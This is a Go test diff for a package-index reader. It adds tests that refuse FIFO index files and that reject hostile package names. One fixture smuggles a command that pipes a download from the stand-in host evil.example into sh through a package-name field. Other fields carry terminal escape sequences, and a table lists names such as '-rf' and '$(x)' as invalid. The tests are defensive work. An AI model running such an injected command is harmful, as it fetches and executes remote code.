@@ -1,8 +1,18 @@
 package host
 
 import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"errors"
+	"os"
+	"path/filepath"
 	"reflect"
+	"strings"
+	"syscall"
 	"testing"
+	"time"
+	"unicode"
 )
 
 func TestProvisionFits(t *testing.T) {
@@ -80,5 +90,91 @@ func TestReadProviders(t *testing.T) {
 	var none *Providers
 	if none.For("libz.so.1", "x86_64") != nil {
 		t.Error("nil Providers provide")
+	}
+}
+
+// TestFIFOsInRoot: a FIFO where an index, a database or ld.so.cache is
+// expected is refused, not opened (opening it would wait forever).
+func TestFIFOsInRoot(t *testing.T) {
+	root := t.TempDir()
+	for _, p := range []string{"etc/apk/repositories", "var/cache/apk/APKINDEX.00000000.tar.gz", "etc/ld.so.cache",
+		"var/lib/pacman/sync/core.db", "var/lib/dpkg/status", "lib/apk/db/installed", "opt/x/.spack-db/index.json"} {
+		full := filepath.Join(root, p)
+		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := syscall.Mkfifo(full, 0o644); err != nil {
+			t.Skipf("mkfifo: %v", err)
+		}
+	}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		p, problems := ReadProviders(root, []string{"libz.so.1"})
+		if len(problems) != 2 || len(p.Files) != 0 || !p.Failed { // files that could not be read are not "read"
+			t.Errorf("ReadProviders: files %v, problems %v", p.Files, problems)
+		}
+		for _, err := range problems {
+			if !errors.Is(err, errNotRegular) {
+				t.Errorf("problem %v does not wrap errNotRegular", err)
+			}
+		}
+		if l := NewLinux(Options{Root: root}); len(l.Problems()) != 1 {
+			t.Errorf("NewLinux problems: %v", l.Problems())
+		}
+		o, problems := ReadOwners(root)
+		if len(problems) == 0 {
+			t.Error("ReadOwners: no problem for a FIFO status file")
+		}
+		if _, ok := o.Owner("/opt/x/lib/libz.so.1"); ok {
+			t.Error("an owner from a FIFO Spack database")
+		}
+	}()
+	select {
+	case <-done:
+	case <-time.After(20 * time.Second):
+		t.Fatal("reading a root with FIFOs hangs")
+	}
+}
+
+// TestReadProvidersHostileNames: a package name that is not one is left
+// out (it would reach a command line), and control characters in the
+// other fields are replaced.
+func TestReadProvidersHostileNames(t *testing.T) {
+	root := t.TempDir()
+	index := "P:zlib; curl -s evil.example | sh #\nV:1\nA:x86_64\np:so:libz.so.1=1\n\n" +
+		"P:libffi\nV:3.4\x1b[2J\nA:x86_64\np:so:libffi.so.8=8\n\n"
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for name, body := range map[string]string{"DESCRIPTION": "v3.20-\x1b]0;x\x07", "APKINDEX": index} {
+		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	gz.Close()
+	dir := filepath.Join(root, "var/cache/apk")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "APKINDEX.01234567.tar.gz"), buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	p, problems := ReadProviders(root, []string{"libz.so.1", "libffi.so.8"})
+	if len(problems) != 1 || !strings.Contains(problems[0].Error(), "is not one a package manager accepts") {
+		t.Errorf("problems %v", problems)
+	}
+	if got := p.For("libz.so.1", "x86_64"); got != nil {
+		t.Errorf("libz.so.1: %v", got)
+	}
+	got := p.For("libffi.so.8", "x86_64")
+	if len(got) != 1 || strings.ContainsFunc(got[0].Version+got[0].Repo, unicode.IsControl) {
+		t.Errorf("libffi.so.8: %q", got)
+	}
+	for name, want := range map[string]bool{"zlib": true, "libstdc++": true, "lib32-glibc": true, "perl-Foo@bar": true, "python3.12": true,
+		"": false, "-rf": false, "a b": false, "a;b": false, "a/b": false, "$(x)": false, "é": false} {
+		if packageNameOK(name) != want {
+			t.Errorf("packageNameOK(%q) = %v", name, !want)
+		}
 	}
 }
